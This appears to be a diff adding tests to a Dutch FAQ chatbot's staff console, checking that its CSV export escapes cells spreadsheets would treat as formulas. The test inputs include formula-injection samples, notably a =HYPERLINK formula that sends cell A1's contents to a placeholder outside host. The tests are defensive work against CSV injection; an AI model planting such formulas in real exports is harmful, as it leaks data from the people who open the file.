@@ -2,6 +2,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from pathlib import Path
 from typing import Any, Dict, List
 
@@ -11,7 +13,7 @@ from tests.staff.console.conftest import Running, parse_result
 from vraagbaak.core import replies
 from vraagbaak.core.knowledge_base import KnowledgeBase
 from vraagbaak.core.outcomes import CHOICE_INTENT, FALLBACK_INTENT, INTENT_OUTCOMES, Outcome
-from vraagbaak.staff import ask
+from vraagbaak.staff import ask, reports
 from vraagbaak.staff import evaluation as ev
 from vraagbaak.staff.console import batch
 from vraagbaak.staff.console.jobs import ConsoleError, Job
@@ -221,3 +223,61 @@ def test_the_closest_training_phrasings_follow_the_files(tmp_path: Path) -> None
     add_staff_phrasing(staff, "Steunt Amnesty souteneurs?", "faq_pooiers")
     assert index.nearest("Steunt Amnesty souteneurs")[0].text == "Steunt Amnesty souteneurs?"
     assert PhrasingIndex(lambda: []).nearest("iets") == []
+
+
+# ---------------------------------------------------------------- no formulas in the CSV
+
+
+FORMULAS = [
+    '=HYPERLINK("https://voorbeeld.invalid/?q="&A1;"Klik hier")',
+    "+31 6 pooiers",
+    "-1+1",
+    "@SUM(A1:A2)",
+]
+
+
+def formula_cells(csv_file: bytes) -> List[str]:
+    """The cells a spreadsheet would run as a formula."""
+    rows = csv.reader(io.StringIO(csv_file.decode("utf-8-sig")), delimiter=ask.CSV_DELIMITER)
+    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def list_csv(kb: KnowledgeBase, questions: List[str]) -> bytes:
+    from tests.staff.console.conftest import FakeRasa
+
+    source = batch.ListInput("vragen.txt", "\n".join(questions) + "\n")
+    return batch.run_list(kb, FakeRasa().parse, source, Job("lijst", "Lijst")).csv
+
+
+def test_the_csv_escapes_every_cell_that_could_be_a_formula(kb: KnowledgeBase) -> None:
+    csv_file = list_csv(kb, [*FORMULAS, "Wat met pooiers?"])
+    assert formula_cells(csv_file) == []
+    text = csv_file.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text and "'+31 6 pooiers" in text and "'-1+1" in text and "'@SUM(A1:A2)" in text
+    assert ";Wat met pooiers?;" in text  # a normal cell is unchanged
+
+
+def test_the_formula_check_would_catch_a_csv_without_escaping(
+    kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(reports, "spreadsheet_cell", str)  # the escaping taken out
+    assert sorted(formula_cells(list_csv(kb, FORMULAS))) == sorted(FORMULAS)
+
+
+@pytest.mark.parametrize(
+    "cell, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Wat met pooiers?", "Wat met pooiers?"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (0.93, "0.93"),
+    ],
+)
+def test_spreadsheet_cells(cell: object, written: str) -> None:
+    assert reports.spreadsheet_cell(cell) == written
